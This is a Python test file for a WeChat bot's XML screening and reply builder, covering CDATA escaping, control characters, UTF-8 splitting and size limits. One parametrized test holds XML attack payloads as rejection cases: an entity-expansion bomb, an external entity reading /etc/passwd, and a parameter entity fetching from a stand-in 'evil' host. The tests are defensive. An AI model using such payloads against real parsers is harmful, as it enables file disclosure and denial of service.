"""XML screening and reply building: `]]>`, control characters, entities, size limits."""

from __future__ import annotations

import pytest
import xmltodict
from hypothesis import given
from hypothesis import strategies as st

from bot.wechat import messages
from bot.wechat.xml import MAX_TEXT_BYTES, XmlRejected, cdata, screen, split_utf8, strip_illegal, text_reply


def _content(reply_xml: str) -> str:
    return str(xmltodict.parse(reply_xml)["xml"]["Content"])


def test_cdata_terminator_round_trips() -> None:
    tricky = "a]]>b]]]]>c<![CDATA[x]]>"
    reply = text_reply(to_user="u", from_user="gh", content=tricky, create_time=1)
    assert _content(reply) == tricky


@given(st.text(max_size=300))
def test_any_text_round_trips_through_a_reply(text: str) -> None:
    reply = text_reply(to_user="u]]>", from_user="gh", content=text, create_time=1)
    parsed = xmltodict.parse(reply, strip_whitespace=False)["xml"]
    expected = strip_illegal(text)
    assert (parsed.get("Content") or "") == expected.replace("\r\n", "\n").replace("\r", "\n")
    assert parsed["ToUserName"] == "u]]>"


def test_control_characters_are_stripped_before_parsing() -> None:
    body = ("<xml><ToUserName><![CDATA[gh]]></ToUserName><FromUserName><![CDATA[u]]></FromUserName>"
            "<CreateTime>1</CreateTime><MsgType><![CDATA[text]]></MsgType>"
            "<Content><![CDATA[明天\x00开\x07会\x1f]]></Content><MsgId>9</MsgId></xml>")
    assert messages.parse(body).content == "明天开会"


def test_reply_strips_control_characters_and_keeps_2048_bytes() -> None:
    reply = text_reply(to_user="u", from_user="gh", content="\x01好" * 2000, create_time=1)
    content = _content(reply)
    assert "\x01" not in content
    assert len(content.encode("utf-8")) <= MAX_TEXT_BYTES


@pytest.mark.parametrize("body", [
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
    "<xml><Content>&lol2;</Content></xml>",
    '<!DOCTYPE xml SYSTEM "file:///etc/passwd"><xml><Content>x</Content></xml>',
    '<xml><!ENTITY x "y"><Content>x</Content></xml>',
    '<!doctype xml [<!ENTITY % p SYSTEM "http://evil/">%p;]><xml/>',
])
def test_entity_payloads_rejected(body: str) -> None:
    with pytest.raises(XmlRejected):
        messages.parse(body)


def test_undeclared_entity_is_malformed_not_expanded() -> None:
    with pytest.raises(XmlRejected):
        messages.parse("<xml><MsgType>text</MsgType><FromUserName>u</FromUserName><Content>&ext;</Content></xml>")


@pytest.mark.parametrize("body", ["", "   ", "\x00\x01", "<xml>", "not xml", "<xml></xml>", "<other/>",
                                  "<xml><MsgType>text</MsgType></xml>", "{not json", "[1,2]",
                                  "<xml><MsgType>text</MsgType><FromUserName>u</FromUserName>"
                                  "<CreateTime>soon</CreateTime></xml>"])
def test_malformed_bodies_rejected(body: str) -> None:
    with pytest.raises(XmlRejected):
        messages.parse(body)


def test_screen_decodes_invalid_utf8() -> None:
    assert screen(b"<xml>\xff</xml>") == "<xml>\ufffd</xml>"


@given(st.text(min_size=0, max_size=3000))
def test_split_utf8_parts_fit_and_rejoin(text: str) -> None:
    parts = split_utf8(text, 100)
    assert "".join(parts) == text
    assert all(len(p.encode("utf-8")) <= 100 for p in parts)


def test_split_prefers_line_breaks() -> None:
    text = ("第一行" * 100 + "\n") * 5
    parts = split_utf8(text)
    assert all(p.endswith("\n") for p in parts[:-1])
    assert "".join(parts) == text


def test_cdata_helper() -> None:
    assert cdata("x]]>y") == "<![CDATA[x]]]]><![CDATA[>y]]>"


def test_overlong_identifiers_rejected() -> None:
    body = ("<xml><ToUserName>gh</ToUserName><FromUserName>" + "u" * 129 + "</FromUserName>"
            "<CreateTime>1</CreateTime><MsgType>text</MsgType><Content>x</Content><MsgId>1</MsgId></xml>")
    with pytest.raises(XmlRejected):
        messages.parse(body)


def test_long_event_keys_keep_distinct_dedupe_keys() -> None:
    def click(key: str) -> str:
        return ("<xml><ToUserName>gh</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime>"
                f"<MsgType>event</MsgType><Event>CLICK</Event><EventKey>{key}</EventKey></xml>")

    first, second = messages.parse(click("K" * 300 + "a")), messages.parse(click("K" * 300 + "b"))
    assert first.dedupe_key != second.dedupe_key
    assert len(first.dedupe_key) <= 191
